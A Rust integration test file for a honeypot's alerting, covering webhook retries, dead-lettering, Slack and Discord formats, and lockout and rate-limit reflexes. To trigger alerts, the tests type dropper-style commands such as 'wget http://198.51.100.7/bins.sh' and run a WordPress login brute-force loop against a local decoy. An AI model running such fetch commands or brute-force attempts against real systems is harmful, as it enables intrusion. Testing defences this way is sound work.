//! Alerts to webhooks: a real node, a real SSH login, and a real HTTP receiver on 127.0.0.1
//! that answers 200, answers 500, hangs for 30 s, or is not there at all. Slack and Discord
//! bodies go through the library's dispatcher to the same receiver.

use std::net::SocketAddr;
use std::path::Path;
use std::sync::atomic::Ordering;
use std::time::Duration;

use mirage::config::{AlertConfig, WebhookConfig, WebhookFormat};
use mirage::events::{SessionId, Severity};
use mirage::metrics::Metrics;
use mirage::outputs::webhook::{AlertPayload, DeadLetter, Dispatcher};

use crate::common::{NodeProcess, SshShell, http_get, poll_until_async};
use crate::webhook::{Answer, Received, Receiver};

/// The node's `/metrics` text.
fn metrics(node: &NodeProcess) -> String {
    tokio::task::block_in_place(|| http_get(node.admin, "/metrics").2)
}

/// Waits (bounded) until `/metrics` shows `line`.
async fn wait_for_metric(node: &NodeProcess, line: &str) {
    poll_until_async(
        Duration::from_secs(60),
        || metrics(node).contains(line).then_some(()),
        || format!("no {line:?} in\n{}", metrics(node)),
    )
    .await;
}

fn dead_letter(data_dir: &Path) -> DeadLetter {
    DeadLetter::new(data_dir.join("alerts").join("dead-letter.jsonl"))
}

/// Waits (bounded) until the dead-letter file holds `n` entries.
async fn wait_for_dead_letters(
    data_dir: &Path,
    n: usize,
) -> Vec<mirage::outputs::webhook::DeadLetterEntry> {
    let dead = dead_letter(data_dir);
    poll_until_async(
        Duration::from_secs(90),
        || Some(dead.read_all()).filter(|entries| entries.len() >= n),
        || format!("fewer than {n} dead letters: {:?}", dead.read_all()),
    )
    .await
}

/// The commands every node test types, with what each must answer.
const COMMANDS: &[(&str, &str)] = &[
    ("echo still-answering", "still-answering\r\n"),
    ("uname -s", "Linux\r\n"),
    ("cd /tmp; pwd", "/tmp\r\n"),
];

/// Types [`COMMANDS`] and checks each answer.
async fn type_commands(shell: &mut SshShell) {
    for (line, want) in COMMANDS {
        assert_eq!(shell.run(line).await, *want, "{line}");
    }
}

/// Every event of the session is in the JSON log: login, each command, its alert, the close.
fn assert_session_logged(node: &NodeProcess) {
    let events = tokio::task::block_in_place(|| {
        node.wait_for_log("the session's end", |e| {
            e["eventid"] == "cowrie.session.closed"
        })
    });
    let count = |id: &str| events.iter().filter(|e| e["eventid"] == id).count();
    assert_eq!(count("cowrie.login.success"), 1);
    assert_eq!(count("cowrie.session.connect"), 1);
    let inputs: Vec<&str> = events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.command.input")
        .filter_map(|e| e["input"].as_str())
        .collect();
    let typed: Vec<&str> = COMMANDS.iter().map(|(line, _)| *line).collect();
    assert_eq!(inputs, typed);
    let alert = events
        .iter()
        .find(|e| e["eventid"] == "mirage.alert" && e["rule"] == "login_success")
        .expect("the login's alert in the log");
    assert_eq!(alert["severity"], "info");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_webhook_answering_200_gets_each_alert_with_its_severity() {
    let receiver = Receiver::start(Answer::Status(200)).await;
    let node = NodeProcess::start(&[
        ("MIRAGE_ALERT_WEBHOOK_URL", &receiver.url()),
        ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
    ]);
    let mut shell = SshShell::open(node.ssh).await;
    let out = shell.run("wget http://198.51.100.7/bins.sh").await;
    assert!(out.contains("saved ["), "{out:?}");
    // The login, the download, and the session's class (a dropper) as it became known (and
    // the built-in `dropper` reflex's tag, an info alert too).
    let wanted = ["login_success", "download", "new_attacker_class"];
    let got = poll_until_async(
        Duration::from_secs(30),
        || {
            let got = receiver.requests();
            let rules: Vec<serde_json::Value> =
                got.iter().map(|r| r.json()["rule"].clone()).collect();
            wanted
                .iter()
                .all(|w| rules.contains(&(*w).into()))
                .then_some(got)
        },
        || format!("not every alert arrived: {:?}", receiver.requests()),
    )
    .await;
    let bodies: Vec<serde_json::Value> = got.iter().map(Received::json).collect();
    for request in &got {
        assert!(
            request
                .head
                .starts_with("POST /hooks/T0001/secret HTTP/1.1"),
            "{}",
            request.head
        );
        assert!(
            request
                .head
                .to_ascii_lowercase()
                .contains("content-type: application/json"),
            "{}",
            request.head
        );
    }
    let login = bodies
        .iter()
        .find(|b| b["rule"] == "login_success")
        .unwrap();
    assert_eq!(login["eventid"], "mirage.alert");
    assert_eq!(login["severity"], "info");
    assert_eq!(login["details"]["username"], "root");
    assert_eq!(login["src_ip"], "127.0.0.1");
    let download = bodies.iter().find(|b| b["rule"] == "download").unwrap();
    assert_eq!(download["severity"], "warning");
    assert_eq!(download["details"]["url"], "http://198.51.100.7/bins.sh");
    assert_eq!(download["session"], login["session"]);
    let class = bodies
        .iter()
        .find(|b| b["rule"] == "new_attacker_class")
        .unwrap();
    assert_eq!(class["severity"], "info");
    assert_eq!(class["details"]["class"], "malware_dropper");
    // The node loads the repository's models, whose trained classifier names the class.
    assert_eq!(class["details"]["source"], "tree");
    assert_eq!(class["session"], login["session"]);
    // The webhook got the same alerts the log has.
    let events = tokio::task::block_in_place(|| {
        node.wait_for_log("the download alert", |e| {
            e["eventid"] == "mirage.alert" && e["rule"] == "download"
        })
    });
    let logged = events
        .iter()
        .find(|e| e["eventid"] == "mirage.alert" && e["rule"] == "download")
        .unwrap();
    assert_eq!(logged["uuid"], download["uuid"]);
    assert_eq!(logged["message"], download["message"]);
    // Every alert raised was sent: the three above and the reflex's.
    let raised = receiver.wait_for(4).await.len();
    wait_for_metric(
        &node,
        &format!("mirage_webhook_sent_total{{sink=\"json0\"}} {raised}"),
    )
    .await;
    let text = metrics(&node);
    assert!(
        text.contains("mirage_alerts_raised_total{rule=\"download\",severity=\"warning\"} 1"),
        "{text}"
    );
    assert!(!dead_letter(&node.data_dir).path().exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn by_default_the_webhook_gets_warnings_and_up_not_every_login() {
    let receiver = Receiver::start(Answer::Status(200)).await;
    let node = NodeProcess::start(&[("MIRAGE_ALERT_WEBHOOK_URL", &receiver.url())]);
    let mut shell = SshShell::open(node.ssh).await;
    let out = shell.run("wget http://198.51.100.7/bins.sh").await;
    assert!(out.contains("saved ["), "{out:?}");
    // The login's alert was raised first; had it been sent, it would have come first.
    let got = receiver.wait_for(1).await;
    let bodies: Vec<serde_json::Value> = got.iter().map(Received::json).collect();
    assert_eq!(bodies.len(), 1, "{bodies:?}");
    assert_eq!(bodies[0]["rule"], "download");
    assert_eq!(bodies[0]["severity"], "warning");
    // The info alert is still an event in the log.
    tokio::task::block_in_place(|| {
        node.wait_for_log("the login alert", |e| {
            e["eventid"] == "mirage.alert" && e["rule"] == "login_success"
        })
    });
    wait_for_metric(&node, "mirage_webhook_sent_total{sink=\"json0\"} 1").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_from_the_environment_set_severity_switch_off_and_deduplicate() {
    let receiver = Receiver::start(Answer::Status(204)).await;
    let node = NodeProcess::start(&[
        ("MIRAGE_ALERT_WEBHOOK_URL", &receiver.url()),
        ("MIRAGE_ALERT_RULES_LOGIN_SUCCESS", "off"),
        ("MIRAGE_ALERT_RULES_DOWNLOAD", "critical"),
    ]);
    let mut shell = SshShell::open(node.ssh).await;
    // The same file twice (one alert), then another file.
    shell.run("wget http://198.51.100.7/a.sh").await;
    shell.run("wget -O b.sh http://198.51.100.7/a.sh").await;
    shell.run("wget http://198.51.100.7/c.sh").await;
    wait_for_metric(
        &node,
        "mirage_alerts_deduplicated_total{rule=\"download\"} 1",
    )
    .await;
    wait_for_metric(&node, "mirage_webhook_sent_total{sink=\"json0\"} 2").await;
    let bodies: Vec<serde_json::Value> = receiver.requests().iter().map(Received::json).collect();
    let urls: Vec<&str> = bodies
        .iter()
        .map(|b| b["details"]["url"].as_str().unwrap())
        .collect();
    assert_eq!(
        urls,
        ["http://198.51.100.7/a.sh", "http://198.51.100.7/c.sh"]
    );
    assert!(
        bodies
            .iter()
            .all(|b| b["severity"] == "critical" && b["rule"] == "download")
    );
    // Off means off: no login alert in the log either.
    let events = node.log_events();
    assert!(
        !events
            .iter()
            .any(|e| e["eventid"] == "mirage.alert" && e["rule"] == "login_success")
    );
    assert_eq!(
        events
            .iter()
            .filter(|e| e["eventid"] == "cowrie.session.file_download")
            .count(),
        3,
        "every download is still logged"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_webhook_answering_500_is_retried_then_dead_lettered() {
    let receiver = Receiver::start(Answer::Status(500)).await;
    let node = NodeProcess::start(&[
        ("MIRAGE_ALERT_WEBHOOK_URL", &receiver.url()),
        ("MIRAGE_ALERT_MAX_RETRIES", "2"),
        ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
        ("MIRAGE_ALERT_RETRY_BASE_MS", "10"),
        ("MIRAGE_ALERT_RETRY_MAX_MS", "40"),
        // The login's alert alone: the typed commands' class alert is not followed here.
        ("MIRAGE_ALERT_RULES_NEW_ATTACKER_CLASS", "off"),
    ]);
    let mut shell = SshShell::open(node.ssh).await;
    type_commands(&mut shell).await;
    drop(shell);
    let entries = wait_for_dead_letters(&node.data_dir, 1).await;
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(entries[0].sink, "json0");
    assert_eq!(entries[0].reason, "http 500");
    assert_eq!(entries[0].attempts, 3, "the first try and two retries");
    assert_eq!(entries[0].alert.rule, "login_success");
    assert_eq!(entries[0].alert.severity, Severity::Info);
    assert_eq!(receiver.requests().len(), 3);
    let text = metrics(&node);
    for line in [
        "mirage_webhook_failed_total{sink=\"json0\"} 1",
        "mirage_webhook_retries_total{sink=\"json0\"} 2",
        "mirage_webhook_sent_total{sink=\"json0\"} 0",
    ] {
        assert!(text.contains(line), "{line} in\n{text}");
    }
    assert_session_logged(&node);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hanging_webhook_never_holds_up_the_session() {
    let receiver = Receiver::start(Answer::Hang).await;
    let node = NodeProcess::start(&[
        ("MIRAGE_ALERT_WEBHOOK_URL", &receiver.url()),
        ("MIRAGE_ALERT_TIMEOUT_MS", "15000"),
        ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
        ("MIRAGE_ALERT_MAX_RETRIES", "1"),
        ("MIRAGE_ALERT_RETRY_BASE_MS", "10"),
        ("MIRAGE_ALERT_RETRY_MAX_MS", "20"),
        // The login's alert alone: the typed commands' class alert is not followed here.
        ("MIRAGE_ALERT_RULES_NEW_ATTACKER_CLASS", "off"),
    ]);
    let mut shell = SshShell::open(node.ssh).await;
    // The login's alert is on its way and the receiver holds it.
    receiver.wait_for(1).await;
    type_commands(&mut shell).await;
    // Every command answered while the webhook was still hanging: nothing waited for it.
    assert_eq!(receiver.hangs_ended.load(Ordering::SeqCst), 0);
    assert!(dead_letter(&node.data_dir).read_all().is_empty());
    drop(shell);
    // Two attempts timed out; the alert is kept in the dead-letter file.
    let entries = wait_for_dead_letters(&node.data_dir, 1).await;
    assert_eq!(entries[0].reason, "timeout");
    assert_eq!(entries[0].attempts, 2);
    assert_eq!(entries[0].alert.rule, "login_success");
    assert_eq!(receiver.requests().len(), 2);
    assert!(metrics(&node).contains("mirage_webhook_failed_total{sink=\"json0\"} 1"));
    assert_session_logged(&node);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_connection_is_retried_then_dead_lettered() {
    // A port that was just free: nothing listens there.
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap()
    };
    let node = NodeProcess::start(&[
        ("MIRAGE_ALERT_WEBHOOK_URL", &format!("http://{closed}/hook")),
        ("MIRAGE_ALERT_MAX_RETRIES", "2"),
        ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
        ("MIRAGE_ALERT_RETRY_BASE_MS", "10"),
        ("MIRAGE_ALERT_RETRY_MAX_MS", "40"),
        // The login's alert alone: the typed commands' class alert is not followed here.
        ("MIRAGE_ALERT_RULES_NEW_ATTACKER_CLASS", "off"),
    ]);
    let mut shell = SshShell::open(node.ssh).await;
    type_commands(&mut shell).await;
    drop(shell);
    let entries = wait_for_dead_letters(&node.data_dir, 1).await;
    assert_eq!(entries[0].reason, "connection failed");
    assert_eq!(entries[0].attempts, 3);
    let text = metrics(&node);
    assert!(
        text.contains("mirage_webhook_failed_total{sink=\"json0\"} 1"),
        "{text}"
    );
    assert!(
        text.contains("mirage_webhook_retries_total{sink=\"json0\"} 2"),
        "{text}"
    );
    // The URL is a secret: never in the node's log.
    assert!(
        !node.stderr().contains(&closed.to_string()),
        "{}",
        node.stderr()
    );
    assert_session_logged(&node);
}

fn payload(rule: &str, severity: Severity) -> AlertPayload {
    AlertPayload {
        eventid: "mirage.alert".into(),
        id: uuid::Uuid::now_v7(),
        severity,
        rule: rule.into(),
        message: format!("{rule} happened to <!channel>"),
        details: [("shasum".to_owned(), "ab12".to_owned())].into(),
        node: "mirage-test".into(),
        session: SessionId("0123456789ab".into()),
        src_ip: "203.0.113.9".parse().unwrap(),
        timestamp: chrono::Utc::now(),
    }
}

/// A dispatcher with one webhook of `format`, its worker running on this runtime.
fn dispatcher(webhook: WebhookConfig, config: AlertConfig, dir: &Path) -> (Dispatcher, Metrics) {
    let metrics = Metrics::new();
    let config = AlertConfig {
        webhooks: vec![webhook],
        ..config
    };
    let (dispatcher, workers) = Dispatcher::build(&config, dir, &metrics).unwrap();
    for worker in workers {
        tokio::spawn(worker.run());
    }
    (dispatcher, metrics)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slack_gets_its_incoming_webhook_format_above_its_threshold() {
    let receiver = Receiver::start(Answer::Status(200)).await;
    let dir = tempfile::tempdir().unwrap();
    let (webhooks, metrics) = dispatcher(
        WebhookConfig {
            url: receiver.url(),
            format: WebhookFormat::Slack,
            min_severity: Severity::Warning,
        },
        AlertConfig::default(),
        dir.path(),
    );
    assert_eq!(webhooks.sinks(), ["slack0"]);
    // Below the threshold: not for this webhook.
    assert_eq!(
        webhooks
            .submit(payload("login_success", Severity::Info))
            .queued,
        0
    );
    assert_eq!(
        webhooks
            .submit(payload("download", Severity::Critical))
            .queued,
        1
    );
    let got = receiver.wait_for(1).await;
    let body = got[0].json();
    assert_eq!(
        body["text"],
        "[CRITICAL] download on mirage-test: download happened to &lt;!channel&gt;"
    );
    assert_eq!(body["blocks"][0]["type"], "section");
    assert_eq!(body["blocks"][0]["text"]["type"], "mrkdwn");
    assert_eq!(body["blocks"][1]["fields"][0]["text"], "*shasum*\nab12");
    poll_until_async(
        Duration::from_secs(10),
        || {
            metrics
                .render()
                .contains("mirage_webhook_sent_total{sink=\"slack0\"} 1")
                .then_some(())
        },
        || metrics.render(),
    )
    .await;
    assert_eq!(receiver.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn discord_gets_an_embed_and_its_rate_limit_dead_letters_the_rest() {
    let receiver = Receiver::start(Answer::Status(204)).await;
    let dir = tempfile::tempdir().unwrap();
    let (webhooks, metrics) = dispatcher(
        WebhookConfig {
            url: receiver.url(),
            format: WebhookFormat::Discord,
            min_severity: Severity::Info,
        },
        AlertConfig {
            rate_limit_per_minute: 1,
            ..AlertConfig::default()
        },
        dir.path(),
    );
    webhooks.submit(payload("token_use", Severity::Critical));
    webhooks.submit(payload("download", Severity::Warning));
    let got = receiver.wait_for(1).await;
    let body = got[0].json();
    assert_eq!(
        body["content"],
        "[CRITICAL] token_use on mirage-test: token_use happened to <!channel>"
    );
    assert_eq!(body["allowed_mentions"]["parse"], serde_json::json!([]));
    let embed = &body["embeds"][0];
    assert_eq!(embed["title"], "[CRITICAL] token_use on mirage-test");
    assert_eq!(embed["color"], 0xD32F2F);
    assert_eq!(embed["fields"][0]["name"], "shasum");
    // The second alert was over the limit: kept in the dead-letter file, not sent.
    let entries = wait_for_dead_letters(dir.path(), 1).await;
    assert_eq!(entries[0].reason, "rate_limited");
    assert_eq!(entries[0].sink, "discord0");
    assert_eq!(entries[0].alert.rule, "download");
    assert_eq!(entries[0].attempts, 0);
    let text = metrics.render();
    assert!(
        text.contains("mirage_webhook_rate_limited_total{sink=\"discord0\"} 1"),
        "{text}"
    );
    assert_eq!(receiver.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alert_still_in_flight_at_shutdown_is_dead_lettered() {
    let receiver = Receiver::start(Answer::Hang).await;
    let mut node = NodeProcess::start(&[
        ("MIRAGE_ALERT_WEBHOOK_URL", &receiver.url()),
        ("MIRAGE_ALERT_TIMEOUT_MS", "25000"),
        ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
    ]);
    let shell = SshShell::open(node.ssh).await;
    // The login's alert is held by the receiver when the node is told to stop.
    receiver.wait_for(1).await;
    drop(shell);
    let (status, _) = tokio::task::block_in_place(|| node.terminate());
    assert!(status.success(), "{status}\n{}", node.stderr());
    let entries = dead_letter(&node.data_dir).read_all();
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(entries[0].reason, "shutdown");
    assert_eq!(entries[0].attempts, 1);
    assert_eq!(entries[0].alert.rule, "login_success");
    assert_eq!(receiver.hangs_ended.load(Ordering::SeqCst), 0);
}

/// Sends one HTTP/1.1 request with `Connection: close` and returns the status it got.
fn decoy_request(addr: SocketAddr, method: &str, path: &str, form: &str) -> u16 {
    use std::io::{Read, Write};
    let mut stream =
        std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5)).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(15)))
        .unwrap();
    let request = format!(
        "{method} {path} HTTP/1.1\r\nHost: decoy.example\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}",
        form.len()
    );
    stream.write_all(request.as_bytes()).unwrap();
    let mut out = Vec::new();
    stream.read_to_end(&mut out).ok();
    let text = String::from_utf8_lossy(&out);
    text.split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reflexes_are_one_event_and_one_alert_per_episode() {
    let receiver = Receiver::start(Answer::Status(200)).await;
    let node = NodeProcess::start(&[
        ("MIRAGE_ALERT_WEBHOOK_URL", &receiver.url()),
        ("MIRAGE_ALERT_WEBHOOK_MIN_SEVERITY", "info"),
        ("MIRAGE_HTTP_LURE", "wordpress"),
        ("MIRAGE_HTTP_LOGIN_MAX_FAILURES", "3"),
        ("MIRAGE_HTTP_LOGIN_LOCKOUT_SECS", "600"),
        ("MIRAGE_HTTP_RATE_LIMIT_PER_MINUTE", "10"),
        ("MIRAGE_HONEYTOKENS_ENABLED", "false"),
    ]);
    let (logins, gets) = (6, 30);
    let statuses = tokio::task::block_in_place(|| {
        // Brute force: the third failure locks the address out; three more while locked.
        let mut statuses: Vec<u16> = (0..logins)
            .map(|n| {
                let form = format!("log=admin&pwd=guess{n}");
                decoy_request(node.http, "POST", "/wp-login.php", &form)
            })
            .collect();
        // Then a flood, far past the rate (the logins counted against it too).
        statuses.extend((0..gets).map(|_| decoy_request(node.http, "GET", "/", "")));
        statuses
    });
    assert!(statuses[..logins].iter().all(|&s| s == 200), "{statuses:?}");
    // WordPress runs on Apache, whose mod_evasive answers 403 past the rate.
    let refused = statuses.iter().filter(|&&s| s == 403).count();
    assert!(refused >= gets - 10, "{statuses:?}");
    // Every request is in the log before the reflexes are counted.
    tokio::task::block_in_place(|| {
        node.wait_for_events("requests", logins + gets, |e| {
            e["eventid"] == "mirage.http.request"
        })
    });
    let events = node.log_events();
    let reflexes: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["eventid"] == "mirage.reflex")
        .collect();
    assert_eq!(reflexes.len(), 2, "one per episode: {reflexes:#?}");
    let lockout = reflexes
        .iter()
        .find(|e| e["rule"] == "http_login_lockout")
        .expect("the lockout's reflex");
    assert_eq!(lockout["action"], "lockout 600s");
    assert_eq!(lockout["detail"], "3 failed logins within 600s");
    assert_eq!(lockout["protocol"], "http");
    assert_eq!(lockout["src_ip"], "127.0.0.1");
    let rate = reflexes
        .iter()
        .find(|e| e["rule"] == "http_rate_limit")
        .expect("the rate limit's reflex");
    assert_eq!(rate["action"], "403");
    assert_eq!(rate["detail"], "over 10 requests per minute");
    // Recorded in the client's HTTP session, like its requests.
    let sessions: std::collections::BTreeSet<&str> = events
        .iter()
        .filter(|e| e["eventid"] == "mirage.http.request")
        .map(|e| e["session"].as_str().unwrap())
        .collect();
    assert!(sessions.contains(rate["session"].as_str().unwrap()));
    assert!(sessions.contains(lockout["session"].as_str().unwrap()));

    // One `reflex` alert each, at the default severity, in the log and at the webhook.
    let got = receiver.wait_for(2).await;
    let bodies: Vec<serde_json::Value> = got.iter().map(Received::json).collect();
    assert_eq!(bodies.len(), 2, "{bodies:#?}");
    assert!(
        bodies.iter().all(|b| b["rule"] == "reflex"
            && b["severity"] == "info"
            && b["src_ip"] == "127.0.0.1"),
        "{bodies:#?}"
    );
    let mut named: Vec<&str> = bodies
        .iter()
        .map(|b| b["details"]["reflex"].as_str().unwrap())
        .collect();
    named.sort_unstable();
    assert_eq!(named, ["http_login_lockout", "http_rate_limit"]);
    let events = tokio::task::block_in_place(|| {
        node.wait_for_events("reflex alerts", 2, |e| {
            e["eventid"] == "mirage.alert" && e["rule"] == "reflex"
        })
    });
    let logged = events
        .iter()
        .find(|e| e["eventid"] == "mirage.alert" && e["details"]["reflex"] == "http_rate_limit")
        .unwrap();
    assert_eq!(logged["severity"], "info");
    wait_for_metric(&node, "mirage_webhook_sent_total{sink=\"json0\"} 2").await;
    assert_eq!(receiver.requests().len(), 2);
}
